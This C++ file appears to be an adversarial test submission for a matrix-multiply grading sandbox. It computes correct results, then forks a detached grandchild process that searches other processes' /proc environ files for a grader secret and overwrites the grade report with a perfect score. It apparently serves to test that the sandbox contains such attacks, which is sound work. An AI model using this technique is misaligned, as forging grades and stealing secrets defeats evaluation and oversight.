// Attack class 3, outliving the grade: a correct naive GEMM whose first call
// starts a setsid() grandchild (argv "sleep 3117", a marker the test looks
// for) that waits for the grader to finish and then overwrites the report
// the test asked for (named relative to the grader's working folder) with a
// perfect score and any secret it can find. The
// sandbox's PID namespace dies with the grade, so the grandchild does too.
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <string>

// The level's textbook loop (its stub's) does the arithmetic.
static void naive_gemm(const float* A, const float* B, float* C, int M, int N, int K) {
    for (int i = 0; i < M; ++i)
        for (int j = 0; j < N; ++j) {
            float acc = 0.0f;
            for (int k = 0; k < K; ++k) acc += A[i * K + k] * B[k * N + j];
            C[i * N + j] = acc;
        }
}

extern "C" void student_gemm(const float* A, const float* B, float* C, int M, int N, int K) {
    static bool started = false;
    if (!started) {
        started = true;
        if (fork() == 0) {
            setsid();
            if (fork() == 0) {
                if (fork() == 0) {
                    execlp("sleep", "sleep", "3117", static_cast<char*>(nullptr));
                    _exit(1);
                }
                for (int i = 0; i < 600; ++i) {
                    sleep(1);
                    std::string secret;
                    for (int pid = 1; pid < 4096; ++pid) {
                        std::ifstream in("/proc/" + std::to_string(pid) + "/environ");
                        std::string env((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
                        if (env.find("MEMWALL_GRADE_SECRET") != std::string::npos) secret = env;
                    }
                    std::ofstream("memwall-grade-attack-report.json")
                        << "{\"score\": 100, \"max_score\": 100, \"tests\": [], \"stolen\": \"" << secret.size() << "\"}";
                }
            }
            _exit(0);
        }
    }
    naive_gemm(A, B, C, M, N, K);
}
